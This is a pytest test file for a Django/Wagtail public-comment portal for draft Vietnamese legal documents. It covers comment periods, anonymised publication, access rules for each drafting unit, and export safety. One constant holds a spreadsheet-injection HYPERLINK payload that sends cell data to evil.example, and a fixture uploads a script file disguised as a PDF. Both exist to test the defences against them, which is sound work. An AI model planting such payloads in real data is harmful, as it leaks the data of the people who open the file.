"""Drafts for public comment (issue #26, item 1): the status from the dates, the comment
form while the period is open and refused after it, the synthesis published only after the
period, comments published without names or contacts, each drafting unit reading only its
own drafts' comments, and the export neutralised. The drafts are built once for the module:
the tests only read them (each test's own writes are rolled back)."""

import io
from datetime import timedelta

import openpyxl
import pytest
from django.core import mail
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from django.utils import timezone
from wagtail.models import ModelLogEntry
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text

from consultations.models import (
    Comment,
    DraftingStaff,
    DraftPage,
    Status,
    annotate_status,
    status_on,
)
from portal import reports
from portal.core import roles
from tests import builders
from workflow.guard import authorised

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()
DAY = timedelta(days=1)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'


@pytest.fixture(scope="module")
def drafts(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        writing = builders.unit("Phòng Xây dựng và Kiểm tra văn bản", email="xdkt@sotp.example.vn")
        other = builders.unit("Phòng Hành chính tư pháp")
        open_draft = builders.draft(drafting_unit=writing, slug="du-thao-mo")
        closed = builders.draft(
            "Dự thảo Nghị quyết về mức chi trợ giúp pháp lý",
            slug="du-thao-da-dong",
            start=TODAY - 40 * DAY,
            end=TODAY - 10 * DAY,
            drafting_unit=writing,
            publish_comments=True,
        )
        comment = Comment.objects.create(
            draft=closed,
            name="Nguyễn Văn Bình",
            organisation="Trung tâm Trợ giúp pháp lý nhà nước tỉnh",
            contact="binh.nguyen@example.vn",
            article="Khoản 2 Điều 3",
            content=FORMULA + " Đề nghị bổ sung mức chi cho xã đặc biệt khó khăn.",
            file=SimpleUploadedFile("gop-y.pdf", b"%PDF-1.4\n"),
        )
        yield {"open": open_draft, "closed": closed, "comment": comment, "units": (writing, other)}
        transaction.set_rollback(True)


def comment_data(**overrides):
    data = {
        "name": "Trần Thị Mai",
        "organisation": "",
        "contact": "mai.tran@example.vn",
        "article": "Điều 5",
        "content": "Đề nghị quy định rõ thời hạn bồi dưỡng hòa giải viên.",
        "consent": "on",
        "website": "",
    }
    return {**data, **overrides}


@pytest.mark.parametrize(
    "day, expected",
    [
        (-1, Status.UPCOMING),  # the day before the start
        (0, Status.OPEN),  # the day of the start
        (1, Status.OPEN),
        (9, Status.OPEN),  # the day before the end
        (10, Status.OPEN),  # the day of the end
        (11, Status.CLOSED),  # the day after the end
    ],
)
def test_status_across_the_comment_period_in_python_and_in_sql(drafts, day, expected):
    draft = drafts["open"]
    start = draft.comment_start
    end = start + 10 * DAY
    DraftPage.objects.filter(pk=draft.pk).update(comment_end=end)
    draft.refresh_from_db()
    assert status_on(draft, start + day * DAY) == expected
    row = annotate_status(DraftPage.objects.filter(pk=draft.pk), day=start + day * DAY).get()
    assert row.current_status == expected


def test_an_issued_draft_links_to_the_registry_document(client, drafts):
    closed = drafts["closed"]
    document = builders.legal_document("15/2026/NQ-HĐND", type_name="Nghị quyết")
    DraftPage.objects.filter(pk=closed.pk).update(issued_document=document)
    cache.clear()
    closed.refresh_from_db()
    assert closed.status == Status.ISSUED
    page = client.get(closed.url).content.decode()
    assert "Đã ban hành" in page and document.url in page


def test_a_comment_is_kept_with_a_reference_acknowledged_and_logged(client, drafts):
    draft = drafts["open"]
    response = client.post(draft.url, comment_data())
    assert response.status_code == 302
    comment = Comment.objects.get(draft=draft)
    assert comment.reference == f"YK-{TODAY.year}-{comment.pk:06d}"
    [ack] = [m for m in mail.outbox if m.to == ["mai.tran@example.vn"]]
    assert comment.reference in ack.subject and comment.reference in ack.body
    assert any(m.to == ["xdkt@sotp.example.vn"] for m in mail.outbox)
    assert ModelLogEntry.objects.filter(action="wagtail.create", object_id=str(comment.pk))
    page = client.get(response["Location"]).content.decode()
    assert comment.reference in page


def test_a_comment_with_a_bad_contact_or_file_is_refused_in_vietnamese(client, drafts):
    draft = drafts["open"]
    fake = SimpleUploadedFile("gop-y.pdf", b"<html><script>alert(1)</script>")
    page = client.post(draft.url, {**comment_data(contact="xyz"), "file": fake}).content.decode()
    assert "số điện thoại" in page  # home/contacts.py's message
    assert "không phải là tệp PDF" in page or "PDF" in page
    assert not Comment.objects.filter(draft=draft).exists()


def test_a_comment_is_refused_after_the_period(client, drafts):
    closed = drafts["closed"]
    before = Comment.objects.count()
    response = client.post(closed.url, comment_data())
    assert response.status_code == 403
    page = response.content.decode()
    end = closed.comment_end.strftime("%d/%m/%Y")
    assert f"Thời gian góp ý dự thảo này đã kết thúc ngày {end}" in page
    assert Comment.objects.count() == before and not mail.outbox


def test_the_board_publishes_a_synthesis_only_after_the_period(client, drafts):
    draft = DraftPage.objects.get(pk=drafts["open"].pk)
    draft.synthesis = "<p>Tiếp thu ý kiến về Điều 5.</p>"
    # Refused whether it comes as a revision or as its publication by the board.
    with authorised("board"), pytest.raises(ValidationError) as refused:
        draft.save_revision().publish()
    assert "sau khi hết thời gian góp ý" in str(refused.value)
    assert "Tiếp thu ý kiến" not in client.get(draft.url).content.decode()

    # The day after the end, the same approval publishes it.
    DraftPage.objects.filter(pk=draft.pk).update(
        comment_start=TODAY - 30 * DAY, comment_end=TODAY - DAY
    )
    draft = DraftPage.objects.get(pk=draft.pk)
    draft.synthesis = "<p>Tiếp thu ý kiến về Điều 5.</p>"
    with authorised("board"):
        draft.save_revision().publish()
    assert "Tiếp thu ý kiến về Điều 5." in client.get(draft.url).content.decode()


def test_published_comments_never_show_names_or_contacts(client, drafts):
    comment = drafts["comment"]
    page = client.get(drafts["closed"].url).content.decode()
    assert "Đề nghị bổ sung mức chi" in page and comment.organisation in page
    assert comment.name not in page and comment.contact not in page
    assert comment.reference not in page and comment.file.name not in page
    # Not published: nothing of them.
    DraftPage.objects.filter(pk=drafts["closed"].pk).update(publish_comments=False)
    cache.clear()  # the page cache's generation moves on a publication, not on update()
    assert "Đề nghị bổ sung mức chi" not in client.get(drafts["closed"].url).content.decode()


def staff_of(make_user, unit, username):
    user = make_user(roles.DRAFTING, username)
    DraftingStaff.objects.create(unit=unit, user=user)
    return user


def test_staff_of_another_unit_cannot_see_the_comments(client, make_user, drafts):
    writing, other = drafts["units"]
    comment = drafts["comment"]
    urls = [
        reverse("wagtailsnippets_consultations_comment:inspect", args=[comment.pk]),
        reverse("consultations_comment_file", args=[comment.pk]),
        reverse("consultations_comments_docx", args=[drafts["closed"].pk]),
    ]
    listing = reverse("wagtailsnippets_consultations_comment:list")

    client.force_login(staff_of(make_user, other, "hanhchinh"))
    assert comment.reference not in client.get(listing).content.decode()
    assert [client.get(url).status_code for url in urls] == [404, 404, 404]
    export = client.get(listing + "?export=xlsx")
    assert comment.reference.encode() not in b"".join(export.streaming_content)

    client.force_login(staff_of(make_user, writing, "xaydung"))
    assert comment.reference in client.get(listing).content.decode()
    assert [client.get(url).status_code for url in urls] == [200, 200, 200]


def test_the_xlsx_export_neutralises_formulas(client, login, drafts):
    login(roles.BOARD)
    url = reverse("wagtailsnippets_consultations_comment:list") + "?export=xlsx"
    response = client.get(url)
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell.value for row in sheet.iter_rows() for cell in row if cell.value]
    assert any(str(value).startswith("'" + FORMULA) for value in cells)
    assert not any(str(value).startswith("=") for value in cells)


def test_the_activity_report_counts_drafts_and_comments(drafts):
    part = next(p for p in reports.activity_report(TODAY - 40 * DAY, TODAY) if p.key == "gop-y")
    figures, by_status = (dict(table.rows) for table in part.tables)
    assert list(figures.values()) == [2, 1, 0]  # both drafts, the comment received today
    assert by_status == {
        "Sắp lấy ý kiến": 0,
        "Đang lấy ý kiến": 1,
        "Hết thời gian góp ý": 1,
        "Đã ban hành": 0,
    }


def test_the_editor_refuses_a_synthesis_before_the_end_with_a_vietnamese_message(
    client, make_user, drafts
):
    draft = drafts["open"]
    client.force_login(staff_of(make_user, drafts["units"][0], "xaydung"))
    data = nested_form_data(
        {
            "title": draft.title,
            "slug": draft.slug,
            "document_type": draft.document_type_id,
            "issuing_authority": draft.issuing_authority_id,
            "drafting_unit": draft.drafting_unit_id,
            "summary": draft.summary,
            "draft_file": draft.draft_file_id,
            "explanatory_file": "",
            "appraisal_file": "",
            "comment_start": draft.comment_start.strftime("%d/%m/%Y"),
            "comment_end": draft.comment_end.strftime("%d/%m/%Y"),
            "contact": draft.contact,
            "synthesis": rich_text("<p>Tiếp thu ý kiến về Điều 5.</p>"),
            "issued_document": "",
            "comments": inline_formset([]),
            "action-submit": "1",
        }
    )
    response = client.post(reverse("wagtailadmin_pages:edit", args=[draft.pk]), data)
    assert response.status_code == 200
    assert "chỉ được công khai sau khi hết thời gian góp ý" in response.content.decode()
    assert "Tiếp thu" not in str(DraftPage.objects.get(pk=draft.pk).get_latest_revision().content)


def test_a_comment_period_shorter_than_the_law_asks_is_refused(drafts, settings):
    """DRAFT_COMMENT_MIN_DAYS (20, as we read the law): a shorter period is refused, saying
    the first end date that would do."""
    settings.DRAFT_COMMENT_MIN_DAYS = 20
    draft = drafts["open"]
    draft.comment_start, draft.comment_end = TODAY, TODAY + 18 * DAY
    with pytest.raises(ValidationError) as refused:
        draft.full_clean()
    message = " ".join(refused.value.message_dict["comment_end"])
    assert "19" in message and (TODAY + 19 * DAY).strftime("%d/%m/%Y") in message
    draft.comment_end = TODAY + 19 * DAY
    draft.full_clean()  # 20 days, start and end included
